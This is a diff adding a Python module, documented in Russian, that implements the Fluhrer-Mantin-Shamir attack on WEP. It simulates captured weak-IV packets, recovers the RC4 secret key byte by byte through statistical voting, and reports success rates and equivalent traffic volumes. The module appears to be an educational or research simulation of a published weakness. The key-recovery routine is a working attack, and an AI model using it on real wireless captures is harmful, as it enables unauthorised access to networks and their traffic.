@@ -0,0 +1,166 @@
+"""Атака Флурера - Мантина - Шамира (FMS) на WEP.
+
+Первый байт данных каждого пакета - 0xAA из заголовка SNAP, поэтому
+первый байт ключевого потока z известен. Байты 0..B+2 ключа RC4 (IV и уже
+восстановленные байты секретного ключа) известны, и атакующий повторяет
+первые B + 3 шага KSA. Если после них S[1] < B + 3 и S[1] + S[S[1]] = B + 3
+(пакет "разрешен"), то с вероятностью около e^-3 ≈ 5% оставшиеся шаги KSA
+не трогают S[1], S[S[1]] и S[B + 3], а первый байт потока равен
+S[B + 3] после шага B + 3. Отсюда голос за следующий байт ключа:
+
+    K[B + 3] = S^-1[z] - j - S[B + 3]  (mod 256)
+
+Остальные 95% голосов распределены почти равномерно, поэтому верное
+значение набирает больше голосов, чем любое другое. Слабые IV вида
+(B + 3, 255, X) разрешены почти всегда, и на каждый байт их всего 256;
+при случайных IV слабым оказывается 256 * длина ключа из 2^24 пакетов.
+
+Голоса считаются сразу по всем пакетам: частичный KSA - операции над
+столбцами массива (n, 256). Байты восстанавливаются по очереди, ошибка в
+одном байте портит голосование за все следующие. Без интерфейса:
+
+    python -m modules.protocols.wep.fms --bits 104 --per-byte 64 128 256 --trials 20
+"""
+from dataclasses import dataclass
+from typing import Dict, List, Optional, Sequence, Tuple
+import argparse
+import sys
+import time
+
+import numpy as np
+
+from modules.protocols.wep import packets
+
+FIRST_PLAINTEXT_BYTE = packets.SNAP_IP[0]
+WEAK_IVS_PER_BYTE = 256  # различных X для каждого байта ключа
+PAYLOAD_SIZE = 32  # байт данных пакета вместе с заголовком SNAP
+
+
+def weak_ivs(key_size: int, count: int, rng: Optional[np.random.Generator] = None) -> np.ndarray:
+    """count различных слабых IV (A + 3, 255, X) по очереди для каждого байта ключа A.
+
+    X для каждого байта - случайная перестановка 0..255: повторный IV дал бы
+    тот же голос, поэтому больше 256 слабых IV на байт не бывает.
+    """
+    if count > WEAK_IVS_PER_BYTE * key_size:
+        raise ValueError(f"Различных слабых IV для ключа из {key_size} байт - не больше "
+                         f"{WEAK_IVS_PER_BYTE * key_size}")
+    rng = rng or np.random.default_rng()
+    numbers = np.arange(count)
+    permutations = np.argsort(rng.random((key_size, WEAK_IVS_PER_BYTE)), axis=1)
+    ivs = np.empty((count, packets.IV_SIZE), dtype=np.uint8)
+    ivs[:, 0] = numbers % key_size + 3
+    ivs[:, 1] = 255
+    ivs[:, 2] = permutations[numbers % key_size, numbers // key_size]
+    return ivs
+
+
+def capture(key: bytes, count: int, rng: Optional[np.random.Generator] = None) -> Tuple[np.ndarray, np.ndarray]:
+    """Перехваченный трафик: IV и шифртексты count пакетов со слабыми IV"""
+    rng = rng or np.random.default_rng()
+    ivs = weak_ivs(len(key), count, rng)
+    payloads = packets.random_payloads(count, packets.SNAP_IP, PAYLOAD_SIZE, rng)
+    return ivs, packets.encrypt_packets(key, ivs, payloads)
+
+
+def key_byte_votes(ivs: np.ndarray, first_bytes: np.ndarray, known: bytes) -> np.ndarray:
+    """Голоса (256 счетчиков) за байт секретного ключа номер len(known)"""
+    position = len(known) + packets.IV_SIZE
+    prefix = packets.packet_keys(known, ivs)
+    state, j = packets.rc4_ksa(prefix, position)
+    rows = np.arange(len(state))
+    s1 = state[:, 1].astype(np.int64)
+    resolved = (s1 < position) & ((s1 + state[rows, s1]) % 256 == position)
+    state, j, z = state[resolved], j[resolved], first_bytes[resolved]
+    # Обратная перестановка: S^-1[z] - позиция z в строке S
+    inverse = np.argmax(state == z[:, None], axis=1)
+    votes = (inverse - j.astype(np.int64) - state[:, position]) % 256
+    return np.bincount(votes, minlength=256)
+
+
+@dataclass
+class FMSResult:
+    key: bytes
+    votes: np.ndarray  # (байт ключа, 256) - голоса за каждое значение
+    seconds: float
+
+    def confidence(self) -> np.ndarray:
+        """Отрыв лидера от второго места по каждому байту"""
+        ordered = np.sort(self.votes, axis=1)
+        return ordered[:, -1] - ordered[:, -2]
+
+    def ranks(self, key: bytes) -> List[int]:
+        """Место истинного байта в голосовании (0 - первое) при голосовании по
+        восстановленным предыдущим байтам"""
+        return [int(np.count_nonzero(row > row[value])) for row, value in zip(self.votes, key)]
+
+
+def recover_key(ivs: np.ndarray, ciphertexts: np.ndarray, key_size: int) -> FMSResult:
+    """Восстанавливает секретный ключ по байтам, выбирая значение с наибольшим числом голосов"""
+    start = time.perf_counter()
+    first_bytes = np.asarray(ciphertexts)[:, 0] ^ FIRST_PLAINTEXT_BYTE
+    known = b''
+    votes = np.zeros((key_size, 256), dtype=np.int64)
+    for number in range(key_size):
+        votes[number] = key_byte_votes(ivs, first_bytes, known)
+        known += bytes([int(np.argmax(votes[number]))])
+    return FMSResult(known, votes, time.perf_counter() - start)
+
+
+def success_rate(key_bits: int, counts: Sequence[int], trials: int = 20,
+                 seed: Optional[int] = None) -> List[Dict[str, float]]:
+    """Доля полностью восстановленных ключей и верных байтов для каждого числа пакетов"""
+    rng = np.random.default_rng(seed)
+    key_size = packets.KEY_SIZES[key_bits]
+    if max(counts) > WEAK_IVS_PER_BYTE * key_size:
+        raise ValueError(f"Различных слабых IV для {key_bits}-битного ключа - не больше {WEAK_IVS_PER_BYTE * key_size}")
+    rows = []
+    for count in counts:
+        recovered = correct_bytes = 0
+        seconds = 0.0
+        for _ in range(trials):
+            key = rng.integers(0, 256, key_size, dtype=np.uint8).tobytes()
+            ivs, ciphertexts = capture(key, count, rng)
+            result = recover_key(ivs, ciphertexts, key_size)
+            recovered += result.key == key
+            # Верный префикс: после первой ошибки голосование идет по неверным байтам
+            correct_bytes += next((number for number, (a, b) in enumerate(zip(result.key, key)) if a != b), key_size)
+            seconds += result.seconds
+        rows.append({
+            "packets": count,
+            "per_byte": count / key_size,
+            "success_rate": recovered / trials,
+            "correct_prefix": correct_bytes / trials,
+            "seconds": seconds / trials,
+        })
+    return rows
+
+
+def equivalent_traffic(weak_packets: int, key_size: int) -> float:
+    """Сколько пакетов со случайными IV нужно, чтобы среди них было weak_packets слабых"""
+    return weak_packets * (1 << 24) / (256 * key_size)
+
+
+def main(argv: Optional[Sequence[str]] = None) -> int:
+    parser = argparse.ArgumentParser(description="Атака FMS на синтетический трафик WEP")
+    parser.add_argument("--bits", type=int, choices=sorted(packets.KEY_SIZES), default=104)
+    parser.add_argument("--per-byte", type=int, nargs="+", default=[32, 64, 128, 192, 256],
+                        help=f"слабых IV на байт ключа, не больше {WEAK_IVS_PER_BYTE}")
+    parser.add_argument("--trials", type=int, default=20)
+    parser.add_argument("--seed", type=int)
+    args = parser.parse_args(argv)
+
+    key_size = packets.KEY_SIZES[args.bits]
+    if max(args.per_byte) > WEAK_IVS_PER_BYTE:
+        parser.error(f"--per-byte: не больше {WEAK_IVS_PER_BYTE} различных слабых IV на байт")
+    counts = [per_byte * key_size for per_byte in args.per_byte]
+    print(f"{'слабых IV':>10s}{'на байт':>9s}{'успех':>8s}{'верных байт':>13s}{'время, с':>10s}{'весь трафик':>14s}")
+    for row in success_rate(args.bits, counts, args.trials, args.seed):
+        traffic = f"{equivalent_traffic(row['packets'], key_size):,.0f}".replace(",", " ")
+        print(f"{row['packets']:10d}{row['per_byte']:9.0f}{row['success_rate']:8.0%}"
+              f"{row['correct_prefix']:13.1f}{row['seconds']:10.3f}{traffic:>14s}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())